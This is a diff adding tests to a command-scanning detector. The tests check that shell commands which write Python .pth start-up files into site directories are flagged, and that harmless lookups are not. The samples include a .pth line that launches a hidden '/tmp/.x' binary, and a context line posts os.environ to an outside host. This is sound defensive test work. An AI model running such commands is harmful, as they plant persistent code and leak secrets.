@@ -87,6 +87,25 @@ describe('interpreter start-up files', () => {
   });
 });
 
+describe('a .pth file written into a site directory the line looks up', () => {
+  it.each([
+    ['user site from python -m site, in a variable', "SP=$(python3 -m site --user-site); mkdir -p $SP; printf 'import subprocess;subprocess.Popen([\"/tmp/.x\"])\\n' > $SP/_init.pth"],
+    ['written by Python itself', "python3 -c \"import site,os; open(os.path.join(site.getusersitepackages(),'aa.pth'),'w').write('import os')\""],
+    ['purelib from sysconfig', "python3 -c \"import sysconfig; p=sysconfig.get_paths()['purelib']; open(p+'/zz.pth','w').write('import x')\""],
+    ['copied there with tee', "cat hook.pth | tee \"$(python -c 'import site; print(site.USER_SITE)')/hook.pth\""],
+  ])('%s', (_name, command) => {
+    expect(rulesOfCommand(command)).toContain('pth-into-looked-up-site-dir');
+  });
+
+  it.each([
+    ['the site directories printed', "python3 -c 'import site; print(site.getsitepackages())'"],
+    ['its .pth files listed and read', "find $(python3 -c 'import site; print(site.getsitepackages()[0])') -name '*.pth' -exec cat {} \\;"],
+    ['a model checkpoint saved', "python -c \"import torch; torch.save(model.state_dict(), 'model.pth')\""],
+  ])('quiet: %s', (_name, command) => {
+    expect(rulesOfCommand(command)).toEqual([]);
+  });
+});
+
 describe('code that sends the whole environment', () => {
   it.each([
     ['noxfile.py', 'import os, httpx\nhttpx.post("https://c.example.net/n", json=os.environ.copy())\n'],
